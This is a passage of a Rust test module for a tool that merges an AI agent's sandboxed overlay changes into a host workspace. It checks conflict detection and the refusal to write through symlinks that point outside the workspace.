            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| i64::try_from(d.as_secs()).unwrap_or(i64::MAX))
            .unwrap_or(0);
        let since = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| i64::try_from(d.as_secs()).unwrap_or(i64::MAX))
            .unwrap_or(0)
            + 5; // the session "started" after the host's files were written
        assert!(conflicts(&ws, &up, &ch, since).is_empty(), "false conflict");
        // An interrupted merge deleted what was below the directory (moving its times): the
        // directory itself is still not a conflict, and a file the host added in it is one.
        // (The session "started" in the second the host files were written; the deletion lands
        // a second later.)
        std::thread::sleep(std::time::Duration::from_millis(1100));
        fs::remove_file(ws.join("d/x")).expect("rm");
        let ch = changes(&ws, &up).expect("changes");
        assert!(conflicts(&ws, &up, &ch, now).is_empty(), "{ch:?}");
        fs::write(ws.join("d/host-new"), "host").expect("write");
        let with_host = changes(&ws, &up).expect("changes");
        assert_eq!(
            conflicts(&ws, &up, &with_host, now),
            vec![PathBuf::from("d/host-new")]
        );
        fs::remove_file(ws.join("d/host-new")).expect("rm");
        // The link leads outside the workspace: refused unless allowed.
        let r = apply(&ws, &up, &ch, Allow::none(), &t.path().join("j")).expect("apply");
        assert_eq!(r.refused.len(), 1, "{r:?}");
        assert!(r.refused[0].1.contains("--allow-outside-links"), "{r:?}");
        let allow = Allow {
            outside_links: true,
            ..Allow::none()
        };
        let r = apply(&ws, &up, &ch, allow, &t.path().join("j")).expect("apply");
        assert!(r.refused.is_empty());
        assert_eq!(fs::read_link(ws.join("d")).expect("link"), outside);
        assert_eq!(
            fs::read_to_string(outside.join("x")).expect("read"),
            "outside"
        );
        // The other order (link first, then deleting d/x through it) would have removed it.
        let mut bad = ch.clone();
        bad.sort_by(|a, b| a.path.cmp(&b.path));
        assert_eq!(
            bad[0].path,
            Path::new("d"),
            "the naive order puts the link first"
        );
    }

    /// A link the agent replaced by a directory (the reverse of the case above): not a conflict
    /// when the host left the link alone, one when it changed it, and the merge replaces the
    /// link by the directory without writing through it.
    #[test]
    fn a_link_replaced_by_a_directory_lands_without_a_false_conflict() {
        use crate::changes::changes;
        let t = tempfile::tempdir().expect("tempdir");
        let (ws, up, outside) = (
            t.path().join("ws"),
            t.path().join("up"),
            t.path().join("out"),
        );
        for d in [&ws, &up.join("l/sub"), &outside] {
            fs::create_dir_all(d).expect("mkdir");
        }
        fs::write(outside.join("f"), "outside").expect("write");
        std::os::unix::fs::symlink(&outside, ws.join("l")).expect("symlink");
        std::os::unix::fs::symlink("elsewhere", ws.join("l2")).expect("symlink");
        fs::write(up.join("l/f"), "agent").expect("write");
        fs::write(up.join("l/sub/g"), "agent").expect("write");
        fs::create_dir_all(up.join("l2")).expect("mkdir");
        // overlayfs marks a directory made over a whiteout opaque; without the mark the upper
        // directory was the host's, replaced by a link on the host since (a conflict below).
        let ch = changes(&ws, &up).expect("changes");
        assert!(!ch.iter().any(|c| c.path == Path::new("l")), "{ch:?}");
        assert_eq!(conflicts(&ws, &up, &ch, i64::MAX).len(), 2, "{ch:?}");
        for d in ["l", "l2"] {
            xattr::set(up.join(d), "user.overlay.opaque", b"y").expect("xattr");
        }
        let ch = changes(&ws, &up).expect("changes");
        let l = ch.iter().find(|c| c.path == Path::new("l")).expect("l");
        assert_eq!(
            (l.kind, l.entry),
            (ChangeKind::Modified, EntryType::Dir),
            "{ch:?}"
        );
        assert_eq!(l.was, Some(EntryType::Symlink), "{ch:?}");
        let since = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| i64::try_from(d.as_secs()).unwrap_or(i64::MAX))
            .unwrap_or(0)
            + 5; // the session "started" after the host's link was made
        assert_eq!(
            conflicts(&ws, &up, &ch, since),
            Vec::<PathBuf>::new(),
            "{ch:?}"
        );
        // The host changing the link after the start is a conflict (the link, not what is below).
        assert_eq!(
            conflicts(&ws, &up, &ch, 0),
            vec![PathBuf::from("l"), PathBuf::from("l2")],
            "{ch:?}"
        );
        let r = apply(&ws, &up, &ch, Allow::none(), &t.path().join("j")).expect("apply");
        assert!(r.refused.is_empty());
        assert!(fs::symlink_metadata(ws.join("l")).expect("l").is_dir());
        assert!(fs::symlink_metadata(ws.join("l2")).expect("l2").is_dir());
        assert_eq!(fs::read_to_string(ws.join("l/f")).expect("read"), "agent");
        assert_eq!(
            fs::read_to_string(ws.join("l/sub/g")).expect("read"),
            "agent"
        );
        assert_eq!(
            fs::read_to_string(outside.join("f")).expect("read"),
            "outside",
            "written through the host's link"
        );
        assert!(!outside.join("sub").exists());
    }

    /// The host replaced a directory with a link to outside the workspace before the merge: the
    /// change below it is a conflict and the merge writes nothing through the link.
    #[test]
    fn a_link_swapped_in_on_the_host_is_never_written_through() {
        let t = tempfile::tempdir().expect("tempdir");
        let (ws, up, outside) = (
            t.path().join("ws"),
            t.path().join("up"),
            t.path().join("out"),
        );
        for d in [&ws, &up.join("src/deep"), &outside.join("deep")] {
            fs::create_dir_all(d).expect("mkdir");
        }
        fs::write(outside.join("lib.rs"), "outside").expect("write");
        fs::write(up.join("src/lib.rs"), "agent").expect("write");
        fs::write(up.join("src/deep/new.rs"), "agent").expect("write");
        std::os::unix::fs::symlink(&outside, ws.join("src")).expect("symlink");
        let ch = vec![
            Change::new("src/deep/new.rs".into(), ChangeKind::Added, EntryType::File),
            Change::new("src/gone.rs".into(), ChangeKind::Deleted, EntryType::File),
            Change::new("src/lib.rs".into(), ChangeKind::Modified, EntryType::File),
        ];
        fs::write(outside.join("gone.rs"), "outside").expect("write");
        assert_eq!(conflicts(&ws, &up, &ch, i64::MAX).len(), 3);
        let err = apply(&ws, &up, &ch, Allow::none(), &t.path().join("j")).expect_err("refused");
        assert!(err.to_string().contains("no longer a directory"), "{err}");
        assert_eq!(
            fs::read_to_string(outside.join("lib.rs")).expect("r"),
            "outside"
        );
        assert!(outside.join("gone.rs").exists());
        assert!(!outside.join("deep/new.rs").exists());
        // A race after validation is caught by the descriptor walk itself.
        let root = open_root(&ws).expect("root");
        let e = open_parent(&root, &ws, Path::new("src/lib.rs")).expect_err("no follow");
        assert!(e.to_string().contains("not a directory"), "{e}");
    }
}
